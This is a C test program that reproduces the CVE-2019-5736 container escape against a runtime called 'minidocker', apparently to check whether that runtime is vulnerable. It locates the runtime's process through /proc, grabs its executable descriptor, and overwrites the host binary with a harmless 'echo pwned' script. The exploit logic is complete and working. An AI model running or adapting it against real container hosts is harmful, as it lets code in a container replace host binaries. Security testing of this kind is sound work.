/* CVE-2019-5736 as an attacker inside a container does it: find a process that runs minidocker's own executable
 * (exec's init, or minidocker run as a script's interpreter), stop it, open its executable through /proc/PID/exe,
 * kill it, and once nothing executes the file any more, reopen the descriptor for writing and overwrite the host's
 * binary. Says "opened" on stdout once it holds the descriptor (the file stays busy while minidocker's monitor runs:
 * the test then kills the monitor, as a crash would), and writes "write=OK" (the host binary was changed) or
 * "write=<reason>" to /result, since the log relay is gone by then. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int find_target(void) {
    DIR *proc = opendir("/proc");
    struct dirent *e;
    int found = 0;
    while (proc && (e = readdir(proc)) != NULL) {
        int pid = atoi(e->d_name);
        if (pid <= 1 || pid == getpid()) continue;
        char link[64], target[4096];
        snprintf(link, sizeof link, "/proc/%d/exe", pid);
        ssize_t n = readlink(link, target, sizeof target - 1);
        if (n <= 0) continue;
        target[n] = 0;
        if (strstr(target, "minidocker")) { found = pid; break; }
    }
    if (proc) closedir(proc);
    return found;
}

static void result(const char *what) {
    FILE *f = fopen("/result", "w");
    if (f) { fprintf(f, "write=%s\n", what); fclose(f); }
}

int main(void) {
    signal(SIGPIPE, SIG_IGN);
    setvbuf(stdout, NULL, _IONBF, 0);
    printf("ready\n");
    time_t deadline = time(NULL) + 120;
    int pid = 0;
    while (!(pid = find_target())) {
        if (time(NULL) > deadline) { result("NOTFOUND"); return 1; }
    }
    kill(pid, SIGSTOP);
    char link[64];
    snprintf(link, sizeof link, "/proc/%d/exe", pid);
    int fd = open(link, O_RDONLY | O_CLOEXEC);
    if (fd < 0) { result(strerror(errno)); return 1; }
    kill(pid, SIGKILL);
    printf("opened\n");
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 6000; i++) {
        int w = open(self, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
            const char pwned[] = "#!/bin/sh\necho pwned\n";
            ssize_t n = pwrite(w, pwned, sizeof pwned - 1, 0);
            result(n > 0 ? "OK" : strerror(errno));
            return 0;
        }
        if (errno != ETXTBSY) { result(errno == EROFS ? "EROFS" : strerror(errno)); return 0; }
        usleep(10000);
    }
    result("ETXTBSY");
    return 0;
}
